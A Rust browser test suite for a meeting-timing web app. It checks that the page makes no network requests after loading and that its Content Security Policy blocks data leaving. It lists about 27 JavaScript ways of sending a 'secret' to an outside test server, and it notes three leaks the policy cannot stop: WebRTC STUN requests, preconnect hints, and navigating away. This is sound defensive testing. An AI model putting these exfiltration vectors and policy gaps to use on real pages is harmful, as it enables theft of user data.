//! Our own page after loading: it asks for nothing any more, and nothing that runs in it can send anything out
//! by a connection.

// A journey that cannot go on ends there and says where: that is what a panic is for.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::net::{TcpListener, UdpSocket};

use journeys::story::{self, SAVED};
use journeys::{Browser, Server, until};
use serde_json::json;

#[test]
fn a_whole_meeting_asks_for_nothing_after_loading() {
    let server = Server::of_product();
    let phone = Browser::phone();
    phone.open(&server.app());
    story::ready(&phone);
    let loaded = server.requests().len();
    phone.page().type_into("People", story::FOUR);
    phone.page().tap("Start meeting");
    for tap in [
        "Ana speaks",
        "Ben interrupts",
        "They kept the floor",
        "Ana talked over",
        "Silence",
        "Pause",
        "Resume",
        "Undo",
        "Redo",
    ] {
        phone.page().tap(tap);
    }
    phone.page().status_is(SAVED);
    phone.page().tap("End meeting");
    for chart in ["Airtime", "Timeline", "Interruptions"] {
        phone.page().find("figure", chart);
    }
    phone.page().tap("Save");
    phone.downloaded();
    for format in ["json", "rttm", "html"] {
        phone.ask(&format!(
            "{}.save('{format}').then(() => null)",
            story::ELEMENT
        ));
    }
    phone.ask(&format!(
        "{}.save('svg', {{ chart: 'airtime' }}).then(() => null)",
        story::ELEMENT
    ));
    phone.ask(&format!(
        "{}.save('png', {{ chart: 'airtime' }}).then(() => null)",
        story::ELEMENT
    ));
    phone.page().tap("New meeting");
    phone.page().find("button", "Start meeting");
    assert_eq!(server.requests()[loaded..], [] as [String; 0]);
}

/// Ways in which a script could send something out; `to` is an address with the secret in it. Each is a
/// promise, or nothing.
const WAYS: [(&str, &str); 20] = [
    ("fetch", "fetch(to)"),
    (
        "fetch without an answer",
        "fetch(to, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })",
    ),
    (
        "XMLHttpRequest",
        "new Promise((done, failed) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = failed; r.open('POST', to); r.send('secret'); })",
    ),
    ("beacon", "navigator.sendBeacon(to, 'secret')"),
    (
        "WebSocket",
        "new Promise((done, failed) => { const s = new WebSocket(to.replace('http', 'ws')); s.onopen = done; s.onerror = failed; })",
    ),
    (
        "EventSource",
        "new Promise((done, failed) => { const s = new EventSource(to); s.onopen = done; s.onerror = () => { s.close(); failed(); }; })",
    ),
    (
        "image",
        "new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = to; })",
    ),
    (
        "picture of a style",
        "(document.body.style.backgroundImage = `url(${to})`, document.body.offsetHeight)",
    ),
    (
        "style of a rule",
        "document.adoptedStyleSheets.push(Object.assign(new CSSStyleSheet(), {})), document.adoptedStyleSheets.at(-1).replaceSync(`body { cursor: url(${to}), auto; list-style-image: url(${to}); }`)",
    ),
    ("font", "new FontFace('x', `url(${to})`).load()"),
    (
        "style sheet",
        "put('link', { rel: 'stylesheet', href: to })",
    ),
    (
        "import of a style sheet",
        "put('style', { textContent: `@import url(${to});` })",
    ),
    ("prefetch", "put('link', { rel: 'prefetch', href: to })"),
    (
        "preload",
        "put('link', { rel: 'preload', as: 'fetch', href: to, crossOrigin: 'anonymous' })",
    ),
    (
        "preloaded module",
        "put('link', { rel: 'modulepreload', href: to })",
    ),
    ("script", "put('script', { src: to })"),
    ("import", "import(to)"),
    ("frame", "put('iframe', { src: to })"),
    (
        "form",
        "(() => { const f = put0('form', { action: to, method: 'post' }); f.submit(); })()",
    ),
    (
        "worker",
        "new Promise((done, failed) => { const w = new Worker(to); w.onerror = failed; setTimeout(done, 300); })",
    ),
];

/// More of the same, which make no request of their own: media, objects, a ping, a manifest, an icon.
const MORE: [(&str, &str); 7] = [
    ("media", "put('video', { src: to, preload: 'auto' })"),
    (
        "sound",
        "new Promise((done, failed) => { const a = new Audio(to); a.oncanplay = done; a.onerror = failed; a.load(); })",
    ),
    ("object", "put('object', { data: to })"),
    ("embed", "put('embed', { src: to })"),
    (
        "ping",
        "(() => { const a = put0('a', { href: '#here', ping: to }); a.click(); })()",
    ),
    ("manifest", "put('link', { rel: 'manifest', href: to })"),
    ("service worker", "navigator.serviceWorker.register(to)"),
];

/// What the ways are written with.
const TOOLS: &str = "window.put0 = (tag, given) => document.head.appendChild(Object.assign(document.createElement(tag), given)); \
    window.put = (tag, given) => new Promise((done, failed) => { const it = put0(tag, { ...given, onload: done, onerror: failed }); setTimeout(() => { it.remove(); done(); }, 300); }); null";

#[test]
fn nothing_gets_out_by_a_connection() {
    let (server, stranger) = (Server::of_product(), Server::empty());
    let laptop = Browser::laptop();
    laptop.open(&server.app());
    story::ready(&laptop);
    // Each way is refused with noise.
    for words in [
        "policy:",
        "Content Security Policy",
        "content security policy",
        "violates",
        "Fetch API",
        "error:",
        "ERR_",
        "Refused",
        "unhandled rejection",
    ] {
        laptop.expect_problem(words);
    }
    laptop.ask(TOOLS);
    let asked = server.requests().len();
    for (origin, whose) in [
        (stranger.origin(), "a stranger's"),
        (server.origin(), "its own"),
    ] {
        for (way, how) in WAYS.iter().chain(&MORE) {
            let to = json!(format!("{origin}/taken?secret={}", way.replace(' ', "-")));
            laptop.ask(&format!(
                "(async () => {{ const to = {to}; try {{ await Promise.race([({how}), new Promise((done) => setTimeout(done, 1000))]); }} catch {{}} return null; }})()"
            ));
            assert_eq!(
                stranger.requests(),
                [] as [String; 0],
                "{way} to {whose} server"
            );
            assert_eq!(
                server.requests()[asked..],
                [] as [String; 0],
                "{way} to {whose} server"
            );
        }
    }
    laptop.ask("new Promise((done) => setTimeout(() => done(null), 500))");
    assert_eq!(stranger.requests(), [] as [String; 0]);
    assert_eq!(server.requests()[asked..], [] as [String; 0]);
    // The page itself is as it was.
    laptop.page().type_into("People", story::FOUR);
    laptop.page().tap("Start meeting");
    laptop.page().tap("Ana speaks");
    laptop.page().status_is(SAVED);
}

/// What a policy cannot forbid in this browser; docs/embedding.md says so in the same words.
#[test]
fn what_the_lock_does_not_hold_is_known() {
    let server = Server::of_product();
    let laptop = Browser::laptop();
    laptop.open(&server.app());
    story::ready(&laptop);
    for words in ["policy:", "Content Security Policy", "violates"] {
        laptop.expect_problem(words);
    }
    laptop.ask(TOOLS);
    // A data channel of WebRTC asks a server for the way.
    let stun = UdpSocket::bind("127.0.0.1:0").unwrap();
    stun.set_read_timeout(Some(journeys::wait::DEADLINE))
        .unwrap();
    let port = stun.local_addr().unwrap().port();
    laptop.ask(&format!(
        "(async () => {{ try {{ window.c = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }}); \
         c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); return null; }} catch (e) {{ return String(e); }} }})()"
    ));
    // Should a browser come to forbid this or what follows, the page on embedding is to say so.
    stun.recv_from(&mut [0; 64])
        .expect("a question to a server");
    // A connection that is only prepared.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    laptop.ask(&format!(
        "void put0('link', {{ rel: 'preconnect', href: 'http://127.0.0.1:{port}' }})"
    ));
    until("a connection that is only prepared", || {
        listener.accept().ok()
    });
    // Going elsewhere.
    let stranger = Server::empty();
    let to = stranger.put("/elsewhere.html", "<!doctype html><title>Elsewhere</title>");
    laptop.ask(&format!(
        "void setTimeout(() => {{ location.href = '{to}?secret'; }}, 0)"
    ));
    laptop.until("document.title === 'Elsewhere'");
}
